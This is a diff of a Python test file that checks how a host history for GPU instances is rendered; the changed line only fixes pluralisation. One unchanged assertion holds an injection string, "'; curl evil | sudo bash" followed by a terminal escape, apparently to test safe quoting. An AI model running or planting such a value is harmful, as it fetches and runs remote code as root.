@@ -123,7 +123,7 @@ def test_the_history_of_an_account_is_told_with_reasons_as_quotations(account, c
     assert f"host with {gpu(1)}: 2 instances, 1 with trouble; it is there again" in text
     assert """under nn-1; replaced for "Xid 79 '; curl evil | sudo bash\\x1b[2J\"""" in text
     assert "where in EC2's network they are is not known: " in text
-    assert "1 hosts known by their GPUs, 0 instances without, 1 there again after trouble" in text
+    assert "1 host known by GPUs, 0 instances without, 1 there again after trouble" in text
     values = history_values(history)
     assert values["hosts"][0]["instances"][0]["network_nodes"] == ("nn-1",)
     assert history_values(HostHistory("llm", "us-east-2", ()))["hosts"] == []
